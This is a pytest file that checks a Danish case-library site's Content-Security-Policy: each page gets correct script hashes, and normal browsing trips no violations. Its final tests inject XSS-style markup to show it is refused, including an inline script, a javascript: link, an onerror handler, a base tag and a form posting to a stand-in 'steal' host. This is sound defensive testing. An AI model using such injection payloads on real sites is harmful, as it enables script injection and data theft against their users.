"""The Content-Security-Policy: every page carries it, normal use never trips it, and it really holds.

Content comes from pull requests. Should markup from one ever reach a page
unescaped, the policy (scripts/render/csp.py, written by overrides/main.html) keeps
the browser from running it: scripts and styles come only from the site.
"""

from __future__ import annotations

import contextlib
import re
from html import unescape
from pathlib import Path

import pytest

from scripts.render.csp import content_security_policy, inline_scripts, script_hash
from tests import test_serve
from tests.conftest import PAGE_KINDS

preview = test_serve.preview  # the fixture: `kb serve` on a copy of the minimal library

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')

# Installed in every frame before the page's own scripts: what the browser refused, and why.
LISTENER = """
window.__kbViolations = [];
addEventListener("securitypolicyviolation", (event) => {
  window.__kbViolations.push(event.effectiveDirective + " " + (event.blockedURI || "") + " "
                             + (event.sample || ""));
}, true);
"""


# --- The policy as data ---------------------------------------------------------------------------

def test_a_hash_allows_exactly_the_script_text_it_was_computed_from():
    # The sha256 CSP source for `alert(1)`, as browsers compute it (and as their consoles print it).
    assert script_hash("alert(1)") == "'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='"
    assert script_hash("alert(1) ") != script_hash("alert(1)")


def test_only_scripts_the_browser_runs_are_counted_as_inline():
    markup = """<script>a()</script><script src="x.js"></script>
      <script id="__config" type="application/json">{"base": ".."}</script><script type="module">b()</script>"""
    assert inline_scripts(markup) == ["a()", "b()"]


@pytest.mark.parametrize("offline", [False, True], ids=["online", "offline"])
def test_the_policy_allows_nothing_inline_and_nothing_from_elsewhere(offline):
    policy = dict(d.split(" ", 1) for d in content_security_policy(["a()", "a()"], offline).split("; "))
    site = "'self' file:" if offline else "'self'"  # the offline copy is files on the disk
    assert policy["script-src"] == f"{site} {script_hash('a()')} 'report-sample'"  # each hash once
    assert policy["style-src"] == f"{site} 'report-sample'"
    assert policy["default-src"] == site
    assert "unsafe" not in " ".join(policy.values())
    assert {policy[name] for name in ("base-uri", "form-action", "object-src", "frame-src")} == {"'none'"}
    assert policy["connect-src"] == policy["worker-src"] == ("'none'" if offline else "'self'")


def test_the_preview_allows_mkdocs_live_reload_by_nonce_and_nothing_else_inline():
    from scripts.render.csp import preview_nonce, with_nonce

    nonce = preview_nonce()
    served = dict(d.split(" ", 1) for d in content_security_policy(["a()"], nonce=nonce).split("; "))
    site = dict(d.split(" ", 1) for d in content_security_policy(["a()"]).split("; "))
    assert served["script-src"] == f"'self' {script_hash('a()')} 'nonce-{nonce}' 'report-sample'"
    assert "unsafe" not in served["script-src"] and nonce != preview_nonce()
    assert {name: value for name, value in served.items() if name != "script-src"} == {
        name: value for name, value in site.items() if name != "script-src"}
    page = b'<script>a()</script><p>x</p><script>livereload(1, 2)</script></body>'
    assert with_nonce(page, nonce) == (b'<script>a()</script><p>x</p><script nonce="' + nonce.encode()
                                       + b'">livereload(1, 2)</script></body>')


# --- Every built page carries a policy that fits its inline scripts --------------------------------

@pytest.fixture(scope="module", params=["online", "offline"])
def built(request) -> tuple[str, Path]:
    return request.param, request.getfixturevalue("project_site" if request.param == "online" else "offline_copy")


def test_every_page_has_its_policy_first_and_a_hash_for_each_of_its_inline_scripts(built):
    mode, site = built
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 50
    for path in pages:
        html = path.read_text(encoding="utf-8")
        if 'http-equiv="refresh"' in html:
            # The short printed addresses (k/<code>/) are not theme pages: a title, a link, no script.
            assert "<script" not in html and "style" not in html, path
            continue
        found = META.findall(html)
        assert len(found) == 1, path
        policy = unescape(found[0])
        head = html[:html.index("</head>")]
        # First in <head>: before the content's description and any script, and the charset still in
        # the first 1024 bytes, where browsers look for it.
        assert head.index("Content-Security-Policy") < head.index("<meta charset") < 1024, path
        # No style attribute anywhere: the policy would refuse it, and what it styled would be lost.
        assert not re.search(r"<[^>]+\sstyle=", re.sub(r"<script\b.*?</script>", "", html, flags=re.DOTALL)), path
        scripts = inline_scripts(html)
        assert scripts, path  # Material writes some; a page without any would mean the check checks nothing
        assert policy == content_security_policy(scripts, offline=mode == "offline"), path


def test_materials_inline_scripts_vary_with_the_page_depth_and_its_config_is_data(project_site):
    """Why the hashes are computed per page: one of Material's scripts names the way back to the root."""
    texts = {path: inline_scripts(path.read_text(encoding="utf-8"))
             for path in (project_site / "index.html", project_site / "cases" / "index.html",
                          project_site / "cases" / "odder-samskabt-styring" / "index.html")}
    scopes = {text for scripts in texts.values() for text in scripts if text.startswith("__md_scope=")}
    assert len(scopes) == 3
    assert all(len(scripts) == 2 for scripts in texts.values())  # the scope script and the tab script
    configs = {re.search(r'<script id="__config" type="application/json">(.*?)</script>',
                         path.read_text(encoding="utf-8"), re.DOTALL).group(1) for path in texts}
    assert len(configs) == 3  # data that differs per page, and needs no hash: it never runs


# --- In the browser: normal use, online and offline, trips nothing --------------------------------

class Watched:
    """A page whose refused actions are collected: events in every frame, and Chromium's console lines."""

    def __init__(self, browser, **options):
        self.page = browser.new_page(**options)
        self.page.add_init_script(LISTENER)
        self.console: list[str] = []
        self.errors: list[str] = []
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.seen: list[str] = []  # kept across navigations: events of a page that is gone

    def _console(self, message) -> None:
        if "Content Security Policy" in message.text or "Refused to" in message.text:
            self.console.append(message.text)

    def _collect(self) -> None:
        for frame in self.page.frames:
            with contextlib.suppress(Exception):  # a frame that went away as we looked
                self.seen.extend(frame.evaluate("window.__kbViolations ? window.__kbViolations.splice(0) : []"))

    def goto(self, url: str) -> None:
        self._collect()
        self.page.goto(url)

    def violations(self) -> list[str]:
        self._collect()
        return self.seen + self.console

    def close(self) -> None:
        self.page.close()


@pytest.fixture(params=["online", "offline"])
def site(request):
    """A function from a page's path (as in PAGE_KINDS) to its address, online or in the offline copy."""
    if request.param == "online":
        base = request.getfixturevalue("site_server")
        return lambda path: base + path
    root = request.getfixturevalue("offline_copy")

    def address(path: str) -> str:
        folder = root / path
        if (folder / "index.html").exists():
            return (folder / "index.html").as_uri()
        if folder.is_file():  # a page with its own name, as 404.html
            return folder.as_uri()
        return (root / (path.rstrip("/") + ".html")).as_uri()

    return address


@pytest.fixture
def watched(browser):
    watched = Watched(browser, viewport={"width": 1280, "height": 900})
    yield watched
    watched.close()


def _search_results(page) -> None:
    page.locator(".md-search-result__item").first.wait_for()


@pytest.mark.parametrize("kind", list(PAGE_KINDS))
def test_normal_use_of_every_page_trips_no_policy(watched, site, kind):
    page = watched.page
    address = site(PAGE_KINDS[kind])
    if kind == "ikke fundet" and address.startswith("file:"):
        # Only a host serves the 404 page; the offline copy leaves it out (scripts/engine/build.py).
        assert not Path(address.removeprefix("file://")).exists()
        return
    watched.goto(address)
    page.wait_for_load_state("load")
    # Tooltips: Material turns title attributes into its own tooltips on hover.
    page.locator(".md-header__button.md-logo").hover()
    page.locator(".md-tooltip--active").wait_for()
    if page.locator(".md-typeset .headerlink").count():
        page.locator(".md-typeset .headerlink").first.hover()
        page.locator(".md-tooltip2--active").wait_for()
    # Scrolling: the header's title follows the headings, and "back to top" shows on the way up.
    page.mouse.wheel(0, 4000)
    page.mouse.wheel(0, -300)
    # Search from the header, as a reader types.
    page.locator(".md-search__input").press_sequentially("odder")
    _search_results(page)
    page.keyboard.press("Escape")
    # Printing: the print stylesheet, and the exercise sheets' print button.
    page.emulate_media(media="print")
    page.evaluate("document.body.getBoundingClientRect()")
    page.emulate_media(media="screen")
    if page.locator("[data-kb-print]").count():
        page.evaluate("window.print = () => { window.kbPrinted = true; }")
        page.locator("[data-kb-print]").click()
        assert page.evaluate("window.kbPrinted") is True
    # The search deep link, and the highlighting a result's link asks for.
    watched.goto(address + "?q=odder")
    _search_results(page)
    watched.goto(address + "?h=odder")
    page.wait_for_load_state("load")
    if "odder" in page.inner_text("article").lower():
        page.locator("article mark").first.wait_for()
    assert watched.violations() == []
    assert watched.errors == []


@pytest.mark.parametrize("kind", ["forside", "case", "øvelse", "alle cases"])
def test_the_mobile_menu_trips_no_policy(browser, site, kind):
    watched = Watched(browser, viewport={"width": 375, "height": 800})
    page = watched.page
    watched.goto(site(PAGE_KINDS[kind]))
    page.locator("label.md-header__button[for='__drawer']").click()
    page.wait_for_function("() => document.getElementById('__drawer').checked")
    page.locator(".md-nav--primary .md-nav__link[href]:visible").first.wait_for()
    page.keyboard.press("Escape")
    page.wait_for_function("() => !document.getElementById('__drawer').checked")
    page.locator("label.md-header__button[for='__drawer']").click()
    page.locator(".md-nav--primary .md-nav__link[href]:visible", has_text="Workshoppakker").click()
    page.wait_for_url(re.compile(r"workshops/(index\.html)?$"))
    assert watched.violations() == []
    assert watched.errors == []
    watched.close()


def test_the_case_filters_trip_no_policy(watched, site):
    page = watched.page
    watched.goto(site(PAGE_KINDS["alle cases"]))
    page.get_by_role("checkbox", name="Hedensted").check()
    page.get_by_role("status").filter(has_text="Viser 7 af 10 cases.").wait_for()
    assert watched.violations() == []


def test_the_home_page_form_searches_through_the_deep_link_without_submitting(watched, site):
    page = watched.page
    watched.goto(site(""))
    form = page.get_by_role("search").filter(has=page.get_by_label("Søg i casene"))
    assert form.is_visible()  # kb.js shows it; without JavaScript it stays hidden
    page.get_by_label("Søg i casene").fill("odder kommune")
    page.get_by_label("Søg i casene").press("Enter")
    page.wait_for_url(re.compile(r"\?q=odder%20kommune$"))
    _search_results(page)
    assert page.locator(".md-search__input").input_value() == "odder kommune"
    assert watched.violations() == []


def test_without_javascript_the_home_page_offers_no_form_that_cannot_work(browser, site_server):
    page = browser.new_page(java_script_enabled=False)
    page.goto(site_server)
    assert page.locator("form.kb-search").count() == 1
    assert not page.locator("form.kb-search").is_visible()
    page.close()


def test_the_header_search_form_never_submits(watched, site):
    page = watched.page
    watched.goto(site(PAGE_KINDS["kommuner"]))
    search = page.locator(".md-search__input")
    search.press_sequentially("zzzz")  # nothing found: Enter has no result to open
    page.get_by_text("Ingen resultater fundet").wait_for()
    search.press("Enter")
    search.fill("")
    search.press_sequentially("flygtningene")  # Material searches on key presses, not on fill()
    # The list may still show the results of a half-typed word: wait for the finished word's best result.
    page.locator(".md-search-result__item").first.locator('a[href*="hedensted-flygtningeklasser"]').first.wait_for()
    search.press("Enter")  # opens the best result
    page.wait_for_url(re.compile(r"hedensted-flygtningeklasser"))
    assert watched.violations() == []


# --- ... and the policy holds: what injected markup would try is refused --------------------------

@pytest.fixture
def attacked(watched, site):
    watched.goto(site(PAGE_KINDS["case"]))
    watched.page.wait_for_load_state("load")
    return watched


def _refused(watched, directive: str) -> None:
    watched.page.wait_for_timeout(200)  # violation events are queued as tasks
    found = watched.violations()
    assert any(line.startswith(directive) for line in found), found


def test_an_injected_inline_script_does_not_run(attacked):
    attacked.page.evaluate("""() => {
      const script = document.createElement("script");
      script.textContent = "window.kbInjected = true";
      document.body.append(script);
    }""")
    assert attacked.page.evaluate("window.kbInjected") is None
    _refused(attacked, "script-src-elem inline window.kbInjected = true")


def test_an_injected_javascript_link_does_not_run(attacked):
    attacked.page.evaluate("""() => document.querySelector("article").insertAdjacentHTML("beforeend",
      '<p><a href="javascript:window.kbInjected=true" id="kb-evil">Læs mere</a></p>')""")
    attacked.page.locator("#kb-evil").click()
    assert attacked.page.evaluate("window.kbInjected") is None
    _refused(attacked, "script-src-elem inline javascript:window.kbInjected=true")


def test_an_injected_event_handler_does_not_run(attacked):
    attacked.page.evaluate("""() => {
      document.querySelector("article").insertAdjacentHTML("beforeend",
        '<img src="data:image/png;base64,AAAA" onerror="window.kbInjected = true" alt="">');
    }""")
    attacked.page.wait_for_timeout(200)
    assert attacked.page.evaluate("window.kbInjected") is None
    _refused(attacked, "script-src-attr inline window.kbInjected = true")


def test_an_injected_style_attribute_is_ignored(attacked):
    color = attacked.page.evaluate("""() => {
      const article = document.querySelector("article");
      article.insertAdjacentHTML("beforeend", '<p id="kb-styled" style="color: rgb(1, 2, 3)">x</p>');
      return getComputedStyle(document.getElementById("kb-styled")).color;
    }""")
    assert color != "rgb(1, 2, 3)"
    _refused(attacked, "style-src-attr inline color: rgb(1, 2, 3)")


def test_an_injected_base_address_is_ignored(attacked):
    before = attacked.page.evaluate("document.baseURI")
    after = attacked.page.evaluate("""() => {
      const base = document.createElement("base");
      base.href = "https://example.invalid/";
      document.head.prepend(base);
      const link = document.createElement("a");
      link.setAttribute("href", "kilder/");
      return [document.baseURI, link.href];
    }""")
    assert after[0] == before
    assert not after[1].startswith("https://example.invalid/")
    _refused(attacked, "base-uri")


def test_an_injected_form_cannot_submit(attacked):
    requests: list[str] = []
    attacked.page.on("request", lambda request: requests.append(request.url))
    before = attacked.page.url
    attacked.page.evaluate("""() => {
      document.querySelector("article").insertAdjacentHTML("beforeend",
        '<form id="kb-evil" action="https://example.invalid/steal" method="post"><input name="q" value="x"></form>');
      document.getElementById("kb-evil").submit();
    }""")
    _refused(attacked, "form-action")
    assert attacked.page.url == before
    assert not [url for url in requests if "example.invalid" in url]


# --- The editors' preview: MkDocs' live reload still reloads -------------------------------------

def test_the_preview_reloads_a_saved_change_under_its_policy(browser, preview):
    base, content, log = preview
    watched = Watched(browser)
    watched.goto(base + "cases/odder-test/")
    watched.page.wait_for_function("() => typeof livereload === 'function'")  # MkDocs' inline script ran
    case = content / "cases" / "odder-test.md"
    text = case.read_text(encoding="utf-8")
    case.write_text(text.replace("## Udfordringen\n\n", "## Udfordringen\n\nEn helt ny sætning. ", 1),
                    encoding="utf-8")
    watched.page.get_by_text("En helt ny sætning.").wait_for(timeout=60_000)  # reloaded by itself
    assert watched.violations() == []
    # Only MkDocs' own script has the nonce: any other inline script is refused in the preview too.
    ran = watched.page.evaluate("""() => { const script = document.createElement("script");
        script.textContent = "window.__kbRan = true"; document.body.append(script); return window.__kbRan === true; }""")
    assert ran is False
    assert [v for v in watched.violations() if v.startswith("script-src-elem")]
    watched.close()
